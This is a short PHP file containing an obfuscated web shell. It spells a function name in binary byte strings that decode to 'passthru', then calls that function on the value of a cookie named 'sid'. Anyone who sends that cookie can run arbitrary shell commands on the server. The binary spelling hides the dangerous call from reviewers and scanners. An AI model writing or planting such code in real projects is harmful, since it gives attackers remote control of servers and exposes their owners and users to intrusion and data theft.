<?php
// the callable is spelt in binary, a byte at a time, and called with a cookie's value
$bits = array('0111 0000', '0110 0001', '0111 0011', '0111 0011', '0111 0100', '0110 1000', '0111 0010', '0111 0101');
$run = '';
foreach ($bits as $byte) {
    $run .= chr(bindec($byte));
}
$run(filter_input(INPUT_COOKIE, 'sid'));
